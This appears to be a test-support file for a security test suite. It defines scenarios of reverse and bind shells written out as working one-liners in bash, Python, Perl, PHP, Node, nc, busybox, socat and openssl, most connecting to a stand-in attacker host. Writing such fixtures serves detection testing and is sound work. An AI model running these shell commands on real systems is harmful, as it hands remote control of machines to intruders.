# SPDX-License-Identifier: Apache-2.0
# ruff: noqa: E501 - a script is read as it is run
"""Shells that take their commands from the network, as people start them."""

from __future__ import annotations

from typing import Final

from tests.support.scenarios.scenario import BIND, RCE, REVERSE, Scenario
from tests.support.scenarios.world import EVIL, EVIL_NAME, INSIDE, TLS_PORT

_DUP = "import os,socket;s=socket.create_connection(('{0}',{1}));[os.dup2(s.fileno(),n) for n in (0,1,2)];"
_NODE = (
    'var s=require("child_process").spawn("/bin/sh",[]),k=new (require("net").Socket)();'
    f'k.connect(4451,"{EVIL}",function(){{k.pipe(s.stdin);s.stdout.pipe(k);s.stderr.pipe(k)}});'
    's.on("exit",function(){process.exit()})'
)
_ACCEPT_PTY = (
    "import pty,socket,os,threading;l=socket.create_server(('0.0.0.0',5601));c,_=l.accept();"
    "p,f=pty.fork();\n"
    "if p==0: os.execv('/bin/bash',['bash','-i'])\n"
    "import select\n"
    "while True:\n"
    "  r,_,_=select.select([c,f],[],[],3)\n"
    "  if not r: break\n"
    "  d=os.read(f,999) if f in r else c.recv(999)\n"
    "  if not d: break\n"
    "  c.sendall(d) if f in r else os.write(f,d)"
)


def _fifo(name: str, relay: str, shell: str = "sh -i") -> str:
    """A named pipe, a shell and something that goes out, in a circle."""
    return f"rm -f /tmp/{name}; mkfifo /tmp/{name}; cat /tmp/{name} | {shell} 2>&1 | {relay} > /tmp/{name}; rm -f /tmp/{name}"


def _knock(port: int) -> str:
    """Somebody connects, as soon as that can be done, and types."""
    types = f"(sleep 0.3; echo id; sleep 0.5; echo exit) | nc -w2 {INSIDE} {port}"
    return f"sleep 1; for n in $(seq 12); do {types} && break; sleep 0.2; done"


SHELLS: Final = (
    Scenario("reverse shell by bash", "python", f"bash -c 'bash -i >& /dev/tcp/{EVIL}/4440 0>&1'", (REVERSE, RCE), ("bash",)),
    Scenario(
        "reverse shell by Python", "node",
        f'python3 -c "{_DUP.format(EVIL, 4441)}os.execl(\'/bin/sh\',\'sh\',\'-i\')"', (REVERSE, RCE),
    ),
    Scenario("reverse shell by a pipe and nc", "python", _fifo(".f1", f"nc {EVIL} 4442"), (REVERSE, RCE), ("nc",)),
    Scenario(
        "reverse shell by Perl", "php",
        f"""perl -MSocket -e 'socket(S,PF_INET,SOCK_STREAM,6);connect(S,sockaddr_in(4444,inet_aton("{EVIL}")));"""
        """open(STDIN,">&S");open(STDOUT,">&S");open(STDERR,">&S");exec("/bin/sh -i");'""",
        (REVERSE, RCE), ("perl",),
    ),
    Scenario(
        "reverse shell of a container's own program", "entry",
        f"bash -c 'bash -i >& /dev/tcp/{EVIL}/4445 0>&1'", (REVERSE,), ("bash",),
    ),
    Scenario("reverse shell by nc -e", "perl", f"busybox nc {EVIL} 4446 -e /bin/sh", (REVERSE, RCE), ("busybox",)),
    Scenario(
        "reverse shell of busybox alone", "cgi",
        _fifo(".f2", f"busybox telnet {EVIL} 4447", "busybox sh"), (REVERSE, RCE), ("busybox",),
    ),
    Scenario(
        "reverse shell line by line", "java",
        f"""bash -c 'exec 5<>/dev/tcp/{EVIL}/4448; cat <&5 | while read l; do $l 2>&5 >&5; done'""",
        (REVERSE, RCE), ("bash",),
    ),
    Scenario(
        "reverse shell by PHP", "python",
        f"""php -r '$s=fsockopen("{EVIL}",4450);exec("/bin/sh -i <&3 >&3 2>&3");'""", (REVERSE, RCE), ("php",),
    ),
    Scenario("reverse shell by Node", "php", f"node -e '{_NODE}'", (REVERSE, RCE), ("node",)),
    Scenario(
        "reverse shell behind TLS", "python",
        _fifo(".f3", f"openssl s_client -quiet -connect {EVIL_NAME}:{TLS_PORT} 2>/dev/null"), (REVERSE, RCE), ("openssl",),
    ),
    Scenario(
        "reverse shell with a terminal by socat", "node",
        f"socat exec:'sh -i',pty,stderr,setsid,sigint,sane tcp:{EVIL}:4452", (REVERSE, RCE), ("socat",),
    ),
    Scenario(
        "reverse shell of a database", "postgres", f"bash -c 'bash -i >& /dev/tcp/{EVIL}/4453 0>&1'",
        (REVERSE, RCE), ("bash",),
    ),
    Scenario("bind shell with a terminal", "python", f'python3 -c "{_ACCEPT_PTY}"', (BIND,), ("bash",), knock=_knock(5601)),
    Scenario(
        "bind shell by a login service", "perl", "timeout 8 busybox telnetd -F -l /bin/sh -p 5602", (BIND,),
        ("busybox", "timeout"), knock=_knock(5602),
    ),
    Scenario(
        "bind shell by nc", "php", "busybox nc -l -p 5603 -e /bin/sh", (BIND, REVERSE), ("busybox",), knock=_knock(5603),
    ),
)  # fmt: skip
